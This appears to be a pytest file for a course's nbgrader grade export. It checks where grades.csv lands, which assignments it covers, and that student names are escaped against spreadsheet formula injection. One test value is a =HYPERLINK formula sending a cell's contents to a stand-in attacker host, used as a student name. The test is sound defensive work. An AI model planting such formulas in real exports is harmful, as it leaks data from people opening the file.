"""`nbgrader export` in the course (`ninja_autograde.export`): the grades where reports go, only of what students
received, and every field a spreadsheet shows as text."""
import csv

import pytest
from nbgrader.api import Gradebook

from ninja_autograde import course, grading

SUBMITTED, RELEASED, NEITHER = "01_finite_differences", "02_softmax_nll", "03_mlp_tanh"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"grades")'


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = course.scratch_course(tmp_path_factory.mktemp("export"), [SUBMITTED, RELEASED, NEITHER])
    with Gradebook(grading.db_url(folder)) as gb:
        gb.add_student("ada", first_name=HOSTILE, last_name="Lovelace, Countess")
        gb.add_student("alan")
        gb.add_submission(SUBMITTED, "ada")
    exchange = tmp_path_factory.mktemp("exchange")
    (exchange / "backprop-ninja" / "outbound" / RELEASED).mkdir(parents=True)
    return folder, exchange


def exported(folder, *args):
    course.nbgrader("export", *args, cwd=folder)
    with open(folder / "reports" / "grades.csv", newline="") as f:
        return list(csv.DictReader(f))


def test_the_grades_go_where_reports_go_and_only_of_assignments_students_received(graded):
    folder, exchange = graded
    rows = exported(folder, f"--Exchange.root={exchange}")
    assert not (folder / "grades.csv").exists()
    assert {(r["assignment"], r["student_id"]) for r in rows} == {
        (a, s) for a in (SUBMITTED, RELEASED) for s in ("ada", "alan")}
    assert {r["assignment"] for r in exported(folder, f"--Exchange.root={exchange / 'elsewhere'}")} == {SUBMITTED}
    assert {r["assignment"] for r in exported(folder, "--assignment", NEITHER)} == {NEITHER}


def test_a_hostile_name_is_text_in_its_own_column(graded):
    folder, exchange = graded
    (ada,) = [r for r in exported(folder, f"--Exchange.root={exchange}")
              if r["student_id"] == "ada" and r["assignment"] == SUBMITTED]
    assert ada["first_name"] == "'" + HOSTILE and ada["last_name"] == "Lovelace, Countess"
    assert float(ada["score"]) == 0.0 and ada["max_score"] not in ("", None)
